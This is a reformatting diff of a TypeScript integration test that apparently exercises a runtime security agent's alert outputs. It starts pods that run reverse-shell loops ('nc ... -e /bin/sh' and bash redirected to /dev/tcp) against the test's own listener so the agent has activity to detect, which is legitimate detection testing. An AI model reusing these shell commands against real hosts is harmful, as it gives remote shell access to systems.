@@ -38,7 +38,12 @@ async function closingListener(host: string): Promise<{ port: number; server: Se
   return { port: (server.address() as { port: number }).port, server };
 }
 
-const readLines = (file: string) => (existsSync(file) ? readFileSync(file, 'utf8').split('\n').filter((l) => l !== '') : []);
+const readLines = (file: string) =>
+  existsSync(file)
+    ? readFileSync(file, 'utf8')
+        .split('\n')
+        .filter((l) => l !== '')
+    : [];
 
 describe.skipIf(unavailable)('push outputs against real receivers', () => {
   let dir: string;
@@ -65,13 +70,14 @@ describe.skipIf(unavailable)('push outputs against real receivers', () => {
   async function generators(namespace: string, prefix: string, hostile: boolean): Promise<Pod[]> {
     const l = await closingListener(gateway);
     listeners.push(l.server);
-    const pods = [
-      runPod({ namespace, pod: `${prefix}-nc`, container: 'app', image: TOOLS, command: ['sh', '-c', `while true; do nc ${gateway} ${l.port} -e /bin/sh; sleep 0.4; done`] }),
-    ];
+    const pods = [runPod({ namespace, pod: `${prefix}-nc`, container: 'app', image: TOOLS, command: ['sh', '-c', `while true; do nc ${gateway} ${l.port} -e /bin/sh; sleep 0.4; done`] })];
     if (hostile) {
       pods.push(
         runPod({
-          namespace, pod: `${prefix}-hostile`, container: 'app', image: TOOLS,
+          namespace,
+          pod: `${prefix}-hostile`,
+          container: 'app',
+          image: TOOLS,
           command: ['bash', '-c', `H=${HOSTILE_BASH}; while true; do bash -c 'sleep 1; true' "$H" >/dev/tcp/${gateway}/${l.port} 0>&1 2>&1; sleep 0.5; done`],
         }),
       );
@@ -112,7 +118,10 @@ outputs:
 `,
     );
     const agent: AgentHandle = await startAgent(['--config', config, '--scan-interval-ms', '1000']);
-    const fileAlerts = () => readLines(eventsFile).map((l) => JSON.parse(l) as FileEnvelope).filter((e) => e.kind === 'alert');
+    const fileAlerts = () =>
+      readLines(eventsFile)
+        .map((l) => JSON.parse(l) as FileEnvelope)
+        .filter((e) => e.kind === 'alert');
     try {
       const pods = await generators('shop', 'gen', true);
       const isHostile = (e: FileEnvelope) => String(e.alert!.output_fields['proc.cmdline']).includes(HOSTILE_MARK);
@@ -227,7 +236,12 @@ outputs:
           `syslog-tcp ${readLines(tcp.file).length}, syslog-tls ${readLines(tls.file).length}, nats ${inStream.length}; ` +
           `small spool: ${got.size - notices.length} delivered, ${announced} announced lost in ${notices.length} notices`,
       );
-      console.log((await agent.metrics()).split('\n').filter((l) => /^vigil_output_(retried|failed|spool_evicted)_total/.test(l)).join('\n'));
+      console.log(
+        (await agent.metrics())
+          .split('\n')
+          .filter((l) => /^vigil_output_(retried|failed|spool_evicted)_total/.test(l))
+          .join('\n'),
+      );
     } finally {
       removeAllPods();
       await agent.stop();
